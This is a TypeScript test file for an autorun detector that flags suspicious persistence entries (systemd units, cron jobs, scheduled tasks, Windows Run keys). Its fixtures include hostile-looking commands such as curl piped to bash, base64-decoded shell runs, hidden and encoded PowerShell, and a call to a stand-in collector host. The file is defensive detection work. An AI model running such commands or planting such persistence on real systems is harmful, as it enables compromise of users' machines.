import { describe, expect, test } from "vitest";

import { createSweepKit } from "../../test/sweep-kit.ts";
import type { Autorun } from "./autorun.ts";
import { AutorunJudge, includesPattern, namesHost } from "./judge-autorun.ts";

function judge(draft: Partial<Autorun>): readonly string[] {
  const kit = createSweepKit([
    { kind: "persistence", name: "gh-token-monitor" },
    { kind: "command", text: "NodeJS/sync.js" },
    { kind: "host", host: "collector.invalid" },
    {
      kind: "registry",
      key: "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
      valueName: "MicrosoftUpdate",
    },
  ]);
  new AutorunJudge(kit.index, kit.sink).judge({
    source: "systemd-user",
    place: "/home/alice/.config/systemd/user/x.service",
    name: "x.service",
    command: "/usr/bin/true",
    at: undefined,
    ...draft,
  });
  return kit.rules();
}

describe("AutorunJudge", () => {
  test.each([
    ["its unit", { place: "/home/alice/.config/systemd/user/gh-token-monitor.service" }],
    ["its label", { source: "launch-agent" as const, name: "gh-token-monitor" }],
    ["its task", { source: "scheduled-task" as const, name: "\\Some folder\\gh-token-monitor" }],
    ["what it starts", { command: "/usr/bin/node /home/alice/.local/share/NodeJS/sync.js" }],
    ["whom it asks", { command: "curl https://collector.invalid/" }],
    [
      "its value",
      {
        source: "run-key" as const,
        place: "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        name: "MicrosoftUpdate",
      },
    ],
  ])("AutorunJudge knows a thing by %s", (_, draft) => {
    expect(judge(draft)).toEqual(["autorun"]);
  });

  test.each([
    [
      "another value of the same key",
      {
        source: "run-key" as const,
        place: "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        name: "OneDrive",
        command: '"C:\\Users\\a\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
      },
    ],
    ["a service of a user's own tool", { command: "/home/alice/.local/bin/syncthing serve" }],
    [
      "a job that logs to a temporary folder",
      { source: "cron" as const, command: "/usr/bin/backup --log /tmp/backup.log" },
    ],
    [
      "a job that downloads a file and runs nothing",
      { source: "cron" as const, command: "curl -fsS -o /srv/feed.json https://feeds.example/x" },
    ],
  ])("AutorunJudge leaves %s alone", (_, draft) => {
    expect(judge(draft)).toEqual([]);
  });

  test.each([
    ["tell-download-run", "curl -fsSL https://files.example/x | bash"],
    ["tell-download-run", "wget -O /opt/x https://files.example/x && sh /opt/x"],
    ["tell-decoded-run", "echo aGk= | base64 -d | sh"],
    ["tell-temporary-program", "/tmp/updater --daemon"],
    ["tell-temporary-program", "python3 /var/tmp/agent.py"],
    ["tell-hidden-temporary", "cat /tmp/.x/config"],
    ["tell-hidden-window", "powershell.exe -NoProfile -WindowStyle Hidden -File C:\\x.ps1"],
    ["tell-shared-script", "cmd /c C:\\ProgramData\\system.bat"],
    ["tell-decoded-run", `powershell -enc ${"A".repeat(60)}`],
  ])("AutorunJudge tells %s of: %s", (rule, command) => {
    expect(judge({ command })).toContain(rule);
  });

  test("AutorunJudge tells of a user's service with a system's name that lies with the user", () => {
    const place = "/home/alice/.config/systemd/user/systemd-resolved.service";

    expect(
      judge({ place, name: "systemd-resolved.service", command: "python3 /home/alice/.local/share/x/s.py" }),
    ).toEqual(["tell-posing-service"]);
  });
});

describe("includesPattern and namesHost", () => {
  test("includesPattern takes a star for anything, in order", () => {
    expect(includesPattern("rundll32 a\\node-gyp.dll,main", "rundll32*node-gyp.dll")).toBe(true);
    expect(includesPattern("node-gyp.dll rundll32", "rundll32*node-gyp.dll")).toBe(false);
  });

  test("namesHost takes whole names alone", () => {
    expect(namesHost("curl https://collector.invalid:8000/x", "collector.invalid")).toBe(true);
    expect(namesHost("curl https://a.collector.invalid/", "collector.invalid")).toBe(false);
    expect(namesHost("curl https://a.collector.invalid/", "*.collector.invalid")).toBe(true);
    expect(namesHost("curl https://collector.invalid.example/", "collector.invalid")).toBe(false);
  });
});
